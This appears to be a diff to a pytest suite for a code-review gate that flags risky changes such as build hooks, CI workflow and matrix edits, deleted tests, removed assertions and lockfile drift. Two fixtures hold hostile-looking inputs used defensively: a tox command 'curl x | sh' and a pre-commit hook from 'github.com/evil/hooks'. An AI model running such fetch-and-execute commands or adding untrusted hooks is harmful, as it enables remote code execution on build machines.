@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 
 from gate.model import Budgets, ChangeStatus, Decision, InventoryEntry, PolicySpec
-from gate.policy import RULES, Thresholds, evaluate
+from gate.policy import RULES, PinTags, TagAnswer, Thresholds, evaluate
 from gate.policy.testing import shadowed_module
 
 _STATUS = {
@@ -87,6 +87,7 @@ def judge(
     *,
     tree_files: Mapping[bytes, bytes] | None = None,
     thresholds: Thresholds | None = None,
+    pin_tags: PinTags | None = None,
 ) -> tuple[Decision, set[str], tuple[str, ...]]:
     r = evaluate(
         [c.entry for c in changes],
@@ -94,6 +95,7 @@ def judge(
         spec or PolicySpec(),
         tree_files=tree_files,
         thresholds=thresholds,
+        pin_tags=pin_tags,
     )
     return r.decision, {f.rule for f in r.findings}, tuple(f.message for f in r.findings)
 
@@ -112,9 +114,21 @@ class Case:
     spec: PolicySpec = field(default_factory=PolicySpec)
     tree_files: Mapping[bytes, bytes] | None = None
     thresholds: Thresholds | None = None
+    pin_tags: PinTags | None = None
 
 
 A, H, D = Decision.ALLOW, Decision.HOLD, Decision.DENY
+_ACTION_BUMP = chg(
+    ".github/workflows/ci.yml",
+    deleted=["      - uses: actions/checkout@" + "1" * 40 + " # v4.2.2"],
+    added=["      - uses: actions/checkout@" + "2" * 40 + " # v4.3.0"],
+)
+_CHECKOUT_TAGS = PinTags(
+    answers={
+        ("actions/checkout", "v4.2.2"): TagAnswer(exists=True, commit="1" * 40),
+        ("actions/checkout", "v4.3.0"): TagAnswer(exists=True, commit="2" * 40),
+    }
+)
 
 CASES: dict[str, Case] = {
     # gate-config-changed
@@ -146,6 +160,24 @@ CASES: dict[str, Case] = {
     "docs-about-workflows": Case(
         (chg("docs/workflows/ci.md", added=["text"]),), "ci-workflow-changed", False, A
     ),
+    # ci-matrix-changed: which Pythons and hosted runners CI tests on
+    "matrix-entry-removed": Case(
+        (chg(".github/workflows/tests.yaml", deleted=["          - {python: '3.9'}"]),),
+        "ci-matrix-changed",
+        True,
+        A,
+    ),
+    "matrix-on-a-self-hosted-runner": Case(
+        (chg(".github/workflows/tests.yaml", added=["          - {python: '3.9', os: mine}"]),),
+        "ci-matrix-changed",
+        False,
+        H,
+    ),
+    # pin-bump-verified: the upstream's tags, looked up, name exactly these commits
+    "action-bump-verified": Case(
+        (_ACTION_BUMP,), "pin-bump-verified", True, A, pin_tags=_CHECKOUT_TAGS
+    ),
+    "action-bump-unverified-locally": Case((_ACTION_BUMP,), "pin-bump-verified", False, H),
     # build-hook-changed
     "setup-py": Case((chg("setup.py", added=["import os"]),), "build-hook-changed", True, H),
     "nested-conftest": Case(
@@ -242,6 +274,21 @@ CASES: dict[str, Case] = {
         "build-hook-changed",
         True,
         H,
+        spec=PolicySpec(commands=("tox -e py",)),
+    ),
+    "tox-commands-no-check-runs": Case(
+        (chg("tox.ini", context=["[testenv]", "commands ="], added=["    curl x | sh"]),),
+        "build-hook-changed",
+        False,
+        A,
+        spec=PolicySpec(commands=("python -m pytest",)),
+    ),
+    "pre-commit-hook-added-a-check-runs": Case(
+        (chg(".pre-commit-config.yaml", added=["  - repo: https://github.com/evil/hooks"]),),
+        "build-hook-changed",
+        True,
+        H,
+        spec=PolicySpec(commands=("pre-commit run --all-files",)),
     ),
     "readme-is-not-build": Case((chg("README.md", added=["x"]),), "build-hook-changed", False, A),
     # module-shadowing: a module the test run imports, replaced from the workspace
@@ -467,6 +514,27 @@ CASES: dict[str, Case] = {
         A,
     ),
     # tests-deleted
+    "test-renamed-to-a-name-pytest-does-not-collect": Case(
+        (chg("tests/testing_checks_disabled.py", "R", old_path="tests/test_testing.py"),),
+        "tests-deleted",
+        True,
+        H,
+    ),
+    "test-renamed-to-a-collected-name": Case(
+        (chg("tests/test_testing_more.py", "R", old_path="tests/test_testing.py"),),
+        "tests-deleted",
+        False,
+        A,
+    ),
+    "tests-moved-into-a-file-pytest-does-not-collect": Case(
+        (
+            chg("tests/test_auth.py", "D", deleted=["def test_login():", "    pass"]),
+            chg("tests/auth_disabled.py", "A", added=["def test_login():", "    pass"]),
+        ),
+        "tests-deleted",
+        True,
+        H,
+    ),
     "test-file-deleted": Case(
         (chg("tests/test_auth.py", "D", deleted=["def test_login():", "    assert ok"]),),
         "tests-deleted",
@@ -773,8 +841,21 @@ CASES: dict[str, Case] = {
         True,
         H,
     ),
-    "few-assertions-removed": Case(
-        (chg("tests/test_a.py", context=["def test_a():"], deleted=["    assert x"] * 4),),
+    "one-assertion-removed": Case(
+        (chg("tests/test_a.py", context=["def test_a():"], deleted=["    assert x == 1"]),),
+        "assertions-removed",
+        True,
+        H,
+    ),
+    "an-assertion-rewritten": Case(
+        (
+            chg(
+                "tests/test_a.py",
+                context=["def test_a():"],
+                deleted=["    assert x == 1"],
+                added=["    assert x == 2"],
+            ),
+        ),
         "assertions-removed",
         False,
         A,
@@ -969,7 +1050,18 @@ CASES: dict[str, Case] = {
     ),
     # lockfile-drift
     "lockfile-without-manifest": Case(
-        (chg("uv.lock", added=['version = "2"']),), "lockfile-drift", True, H
+        (chg("uv.lock", added=['version = "2"']),),
+        "lockfile-drift",
+        True,
+        H,
+        spec=PolicySpec(commands=("uv run --locked pytest",)),
+    ),
+    "lockfile-no-check-installs-from": Case(
+        (chg("uv.lock", added=['version = "2"']),),
+        "lockfile-drift",
+        False,
+        A,
+        spec=PolicySpec(commands=("pip install -e .", "python -m pytest")),
     ),
     "lockfile-with-manifest": Case(
         (
@@ -986,6 +1078,7 @@ CASES: dict[str, Case] = {
         True,
         H,
         tree_files={b"uv.lock": b"", b"pyproject.toml": b""},
+        spec=PolicySpec(commands=("uv sync",)),
     ),
     "manifest-without-any-lockfile": Case(
         (chg("pyproject.toml", context=[*PYPROJECT_HEAD, "dependencies = ["], added=['  "a",']),),
@@ -1061,7 +1154,11 @@ CASES: dict[str, Case] = {
 @pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
 def test_rule_case(case: Case) -> None:
     decision, rules, messages = judge(
-        case.changes, case.spec, tree_files=case.tree_files, thresholds=case.thresholds
+        case.changes,
+        case.spec,
+        tree_files=case.tree_files,
+        thresholds=case.thresholds,
+        pin_tags=case.pin_tags,
     )
     assert (case.rule in rules) is case.hit, messages
     assert decision is case.decision, messages
